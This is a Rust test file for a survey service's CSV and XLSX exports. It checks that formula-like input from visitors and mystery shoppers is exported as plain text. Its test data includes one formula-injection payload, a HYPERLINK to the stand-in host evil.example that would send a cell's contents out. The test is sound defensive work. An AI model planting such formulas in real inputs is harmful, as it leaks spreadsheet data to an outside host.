//! The exports as a spreadsheet opens them: whatever a visitor or a shopper typed, no cell
//! begins with a formula (`=`, `+`, `-`, `@`, a tab or a carriage return).

use crate::common::{Api, open_session, revision_of};
use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use domain::Role;
use reqwest::StatusCode;
use server::export::sheet::SheetFormat;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")";

/// The cells of a CSV export, unquoted.
fn cells(csv: &[u8]) -> Vec<String> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv)
        .records()
        .flatten()
        .flat_map(|r| r.iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

fn no_formula(cells: &[String]) {
    for cell in cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
}

async fn a_visitors_formula_is_exported_as_text(api: Api) {
    let answer = api
        .post_as(
            "/q/belfort-accueil",
            None,
            &[
                ("idem", "formula-answer-1"),
                ("lang", "fr"),
                ("q_overall", "very_good"),
                ("q_courtesy", "4"),
                ("q_wait", "lt10"),
                ("q_resolved", "yes"),
                ("q_comment", FORMULA),
            ],
        )
        .await;
    assert_eq!(answer.status(), StatusCode::SEE_OTHER);
    let code = domain::TouchpointCode::parse("belfort-accueil").expect("code");
    let mut csv = Vec::new();
    server::export::responses::write_responses(&api.db, Some(&code), SheetFormat::Csv, &mut csv)
        .await
        .expect("export");
    let cells = cells(&csv);
    assert!(
        cells.contains(&format!("'{FORMULA}")),
        "the comment is there, as text"
    );
    no_formula(&cells);
}
on_both_engines!(responses_export, a_visitors_formula_is_exported_as_text);

/// The rows of an XLSX export's one sheet, each cell as the CSV export writes it; the text cells
/// are checked to be text, whatever they begin with.
fn xlsx_rows(bytes: Vec<u8>, sheet: &str) -> Vec<Vec<String>> {
    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes)).expect("an XLSX");
    assert_eq!(book.sheet_names(), [sheet]);
    let range = book.worksheet_range(sheet).expect("its sheet");
    range
        .rows()
        .map(|row| {
            row.iter()
                .map(|cell| match cell {
                    // What a spreadsheet would run is guarded in the CSV only: here it is text.
                    Data::String(t) => domain::spreadsheet::safe_cell(t).into_owned(),
                    Data::Float(n) => n.to_string(),
                    Data::Int(n) => n.to_string(),
                    Data::Bool(b) => b.to_string(),
                    Data::DateTime(at) => at
                        .as_datetime()
                        .expect("a date")
                        .and_utc()
                        .to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
                    Data::Empty => String::new(),
                    other => panic!("unexpected cell {other:?}"),
                })
                .collect()
        })
        .collect()
}

fn csv_rows(csv: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv)
        .records()
        .map(|r| r.expect("a row").iter().map(str::to_owned).collect())
        .collect()
}

async fn the_xlsx_export_has_the_rows_of_the_csv(api: Api) {
    let answer = api
        .post_as(
            "/q/belfort-accueil",
            None,
            &[
                ("idem", "formula-answer-xlsx"),
                ("lang", "fr"),
                ("q_overall", "average"),
                ("q_courtesy", "3"),
                ("q_wait", "10to20"),
                ("q_resolved", "partly"),
                ("q_comment", FORMULA),
            ],
        )
        .await;
    assert_eq!(answer.status(), StatusCode::SEE_OTHER);
    let code = domain::TouchpointCode::parse("belfort-accueil").expect("code");
    let (mut csv, mut xlsx) = (Vec::new(), Vec::new());
    for (format, out) in [(SheetFormat::Csv, &mut csv), (SheetFormat::Xlsx, &mut xlsx)] {
        server::export::responses::write_responses(&api.db, Some(&code), format, out)
            .await
            .expect("export");
    }
    let expected = csv_rows(&csv);
    assert!(expected.len() > 1, "a header and the answers");
    let book = xlsx_rows(xlsx.clone(), "responses");
    assert_eq!(book, expected);

    // Numbers are numbers, times are dates, the visitor's formula is a text cell.
    let mut reread: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(xlsx)).expect("XLSX");
    let range = reread.worksheet_range("responses").expect("sheet");
    let header: Vec<String> = range
        .rows()
        .next()
        .expect("header")
        .iter()
        .map(|c| c.to_string())
        .collect();
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    let last = range.rows().next_back().expect("the new answer");
    assert!(
        matches!(last[column("id")], Data::Float(_)),
        "{:?}",
        last[column("id")]
    );
    assert!(matches!(last[column("submitted_at")], Data::DateTime(_)));
    assert_eq!(last[column("courtesy")], Data::Float(3.0));
    assert_eq!(last[column("wait")], Data::String("10to20".into()));
    assert_eq!(last[column("comment")], Data::String(FORMULA.into()));
}
on_both_engines!(responses_xlsx, the_xlsx_export_has_the_rows_of_the_csv);

async fn a_shoppers_formula_is_exported_as_text(api: Api) {
    let shopper = open_session(&api.db, "formule@example.gouv.fr", Role::Shopper).await;
    let ids = api
        .planned_calls("appels-formules", 1, "formule@example.gouv.fr")
        .await;
    let (path, page) = api.start_test(ids[0], &shopper).await;
    let revision = revision_of(&page);
    let saved = api
        .post_as(
            &path,
            Some(&shopper),
            &[
                ("revision", revision.as_str()),
                ("action", "save"),
                ("performed_at", "2026-11-02T10:15"),
                ("reached", "+33 3 84 57 00 00"),
                ("C01", "yes"),
            ],
        )
        .await;
    assert_eq!(saved.status(), StatusCode::SEE_OTHER);
    let org = db::structure::organisations(&api.db).await.expect("orgs")[0].id;
    let tests = db::mystery::results::campaign_tests(&api.db, org, "appels-formules", false)
        .await
        .expect("tests")
        .expect("campaign");
    let mut csv = Vec::new();
    server::export::mystery::write_tests(&tests, SheetFormat::Csv, &mut csv).expect("export");
    let cells = cells(&csv);
    assert!(
        cells.contains(&"'+33 3 84 57 00 00".to_owned()),
        "{cells:?}"
    );
    no_formula(&cells);
    // The XLSX has the same rows; the number dialled is a text cell as typed.
    let mut xlsx = Vec::new();
    server::export::mystery::write_tests(&tests, SheetFormat::Xlsx, &mut xlsx).expect("export");
    assert_eq!(xlsx_rows(xlsx, "tests"), csv_rows(&csv));
}
on_both_engines!(tests_export, a_shoppers_formula_is_exported_as_text);
